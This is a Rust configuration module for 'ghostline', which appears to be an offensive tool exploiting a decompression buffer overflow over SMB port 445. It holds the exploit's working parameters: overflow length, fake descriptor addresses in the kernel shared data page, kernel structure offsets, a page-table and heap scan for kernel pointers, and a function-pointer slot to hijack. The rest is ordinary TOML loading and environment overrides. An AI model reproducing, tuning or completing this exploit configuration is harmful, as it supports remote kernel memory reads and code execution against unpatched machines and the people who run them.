//! Configuration system for ghostline.
//!
//! Resolution order: environment variables → config file → defaults.
//!
//! Config file location:
//!   1. $GHOSTLINE_CONFIG (explicit override)
//!   2. $XDG_CONFIG_HOME/ghostline/config.toml
//!   3. ~/.config/ghostline/config.toml
//!
//! Kernel structure offsets live here rather than being discovered; they
//! describe one family of target builds.

use serde::{Deserialize, Serialize};
use std::path::PathBuf;

/// Fixed kernel VA of the user/kernel shared data page.
pub const SHARED_DATA_VA: u64 = 0xFFFF_F780_0000_0000;

/// Top-level configuration.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(default)]
pub struct GhostConfig {
    pub target: TargetConfig,
    pub primitive: PrimitiveConfig,
    pub layout: KernelLayout,
    pub discovery: DiscoveryConfig,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct TargetConfig {
    /// Peer host name or address. Empty = must be given on the command line.
    pub host: String,
    pub port: u16,
    /// Connect and receive timeout for every session.
    pub timeout_secs: u64,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct PrimitiveConfig {
    /// Full write + corrupt + probe sequences per physical read.
    pub max_read_attempts: u32,
    /// Probe sessions per sequence before it counts as a miss.
    pub max_probe_attempts: u32,
    /// Bytes of filler needed to run the decompression past its buffer.
    pub overflow_len: usize,
    /// Largest response read back from one session.
    pub response_len: usize,
    /// Where the fake descriptor is written.
    #[serde(with = "hex_addr")]
    pub descriptor_va: u64,
    /// Scratch VA the fake descriptor maps the target page to.
    #[serde(with = "hex_addr")]
    pub descriptor_map_va: u64,
}

/// Offsets inside peer-side kernel structures.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct KernelLayout {
    /// Raw buffer pointer inside the receive buffer header.
    pub raw_buffer_ptr_offset: usize,
    /// First descriptor pointer inside the receive buffer header.
    pub descriptor_ptr_offset: usize,
    /// Top-level page table base inside the low stub.
    pub lowstub_pml4_offset: usize,
    /// Self VA inside the low stub; masked, it is the heap base.
    pub lowstub_self_va_offset: usize,
    /// Function pointer slot inside the heap structure found by the scan.
    pub interrupt_target_offset: u64,
    /// Distance from the end of the tagged run back to the structure base.
    pub run_end_to_base: u64,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct DiscoveryConfig {
    #[serde(with = "hex_addr")]
    pub lowstub_start: u64,
    #[serde(with = "hex_addr")]
    pub lowstub_limit: u64,
    pub lowstub_stride: u64,
    /// Bytes of the heap scanned for the tagged run.
    pub heap_window: u64,
    /// Consecutive tagged qwords that count as a hit. Tuned, not derived.
    pub tagged_run_len: usize,
    #[serde(with = "hex_addr")]
    pub kernel_tag: u64,
    #[serde(with = "hex_addr")]
    pub kernel_tag_mask: u64,
}

// ── Defaults ──────────────────────────────────────────────────────────────────

impl Default for TargetConfig {
    fn default() -> Self {
        Self {
            host: String::new(),
            port: 445,
            timeout_secs: 7,
        }
    }
}

impl Default for PrimitiveConfig {
    fn default() -> Self {
        Self {
            max_read_attempts: 3,
            max_probe_attempts: 3,
            overflow_len: 0x1100,
            response_len: 1000,
            descriptor_va: SHARED_DATA_VA + 0x900,
            descriptor_map_va: SHARED_DATA_VA + 0x800,
        }
    }
}

impl Default for KernelLayout {
    fn default() -> Self {
        Self {
            raw_buffer_ptr_offset: 0x18,
            descriptor_ptr_offset: 0x38,
            lowstub_pml4_offset: 0xA0,
            lowstub_self_va_offset: 0x78,
            interrupt_target_offset: 0x78,
            run_end_to_base: 0x40,
        }
    }
}

impl Default for DiscoveryConfig {
    fn default() -> Self {
        Self {
            lowstub_start: 0x1000,
            lowstub_limit: 0x10_0000,
            lowstub_stride: 0x1000,
            heap_window: 0x1_0000,
            tagged_run_len: 4,
            kernel_tag: 0xFFFF_F800_0000_0000,
            kernel_tag_mask: 0xFFFF_FF00_0000_0000,
        }
    }
}

// ── Path helpers ──────────────────────────────────────────────────────────────

fn config_dir() -> PathBuf {
    std::env::var("XDG_CONFIG_HOME")
        .map(PathBuf::from)
        .unwrap_or_else(|_| dirs_or_home().join(".config"))
        .join("ghostline")
}

fn dirs_or_home() -> PathBuf {
    std::env::var("HOME")
        .map(PathBuf::from)
        .unwrap_or_else(|_| PathBuf::from("/tmp"))
}

// ── Address encoding ──────────────────────────────────────────────────────────

/// Parse `0x`-prefixed hex or plain decimal, ignoring `_` separators.
pub fn parse_addr(text: &str) -> Option<u64> {
    let text = text.trim().replace('_', "");
    match text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
        Some(hex) => u64::from_str_radix(hex, 16).ok(),
        None => text.parse().ok(),
    }
}

/// TOML integers are signed 64-bit, so kernel addresses are written as
/// hex strings. Plain integers are still accepted on input.
mod hex_addr {
    use serde::{de, Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(value: &u64, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&format!("{value:#x}"))
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<u64, D::Error> {
        #[derive(Deserialize)]
        #[serde(untagged)]
        enum Raw {
            Int(u64),
            Text(String),
        }

        match Raw::deserialize(d)? {
            Raw::Int(v) => Ok(v),
            Raw::Text(t) => super::parse_addr(&t)
                .ok_or_else(|| de::Error::custom(format!("invalid address: {t}"))),
        }
    }
}

// ── Errors ────────────────────────────────────────────────────────────────────

#[derive(Debug, thiserror::Error)]
pub enum ConfigError {
    #[error("failed to read {0}: {1}")]
    ReadFailed(PathBuf, std::io::Error),
    #[error("failed to parse {0}: {1}")]
    ParseFailed(PathBuf, toml::de::Error),
    #[error("failed to write {0}: {1}")]
    WriteFailed(PathBuf, std::io::Error),
    #[error("failed to serialize: {0}")]
    SerializeFailed(toml::ser::Error),
}

// ── Loading ───────────────────────────────────────────────────────────────────

impl GhostConfig {
    /// Load config: env vars → file → defaults.
    pub fn load() -> Result<Self, ConfigError> {
        let path = Self::file_path();
        let mut config = if path.exists() {
            let text = std::fs::read_to_string(&path)
                .map_err(|e| ConfigError::ReadFailed(path.clone(), e))?;
            Self::from_toml(&text).map_err(|e| ConfigError::ParseFailed(path.clone(), e))?
        } else {
            GhostConfig::default()
        };
        config.apply_env_overrides();
        Ok(config)
    }

    pub fn from_toml(text: &str) -> Result<Self, toml::de::Error> {
        toml::from_str(text)
    }

    /// Config file path.
    pub fn file_path() -> PathBuf {
        std::env::var("GHOSTLINE_CONFIG")
            .map(PathBuf::from)
            .unwrap_or_else(|_| config_dir().join("config.toml"))
    }

    /// Write default config if none exists. Returns the path.
    pub fn write_default_if_missing() -> Result<PathBuf, ConfigError> {
        let path = Self::file_path();
        if !path.exists() {
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent)
                    .map_err(|e| ConfigError::WriteFailed(path.clone(), e))?;
            }
            let text = toml::to_string_pretty(&GhostConfig::default())
                .map_err(ConfigError::SerializeFailed)?;
            std::fs::write(&path, text).map_err(|e| ConfigError::WriteFailed(path.clone(), e))?;
        }
        Ok(path)
    }

    /// Apply GHOSTLINE_* env var overrides.
    fn apply_env_overrides(&mut self) {
        self.apply_overrides(|key| std::env::var(key).ok());
    }

    fn apply_overrides(&mut self, lookup: impl Fn(&str) -> Option<String>) {
        if let Some(v) = lookup("GHOSTLINE_TARGET__HOST") {
            self.target.host = v;
        }
        if let Some(p) = lookup("GHOSTLINE_TARGET__PORT").and_then(|v| v.parse().ok()) {
            self.target.port = p;
        }
        if let Some(t) = lookup("GHOSTLINE_TARGET__TIMEOUT_SECS").and_then(|v| v.parse().ok()) {
            self.target.timeout_secs = t;
        }
        if let Some(n) = lookup("GHOSTLINE_PRIMITIVE__MAX_READ_ATTEMPTS").and_then(|v| v.parse().ok()) {
            self.primitive.max_read_attempts = n;
        }
        if let Some(n) = lookup("GHOSTLINE_DISCOVERY__TAGGED_RUN_LEN").and_then(|v| v.parse().ok()) {
            self.discovery.tagged_run_len = n;
        }
    }
}
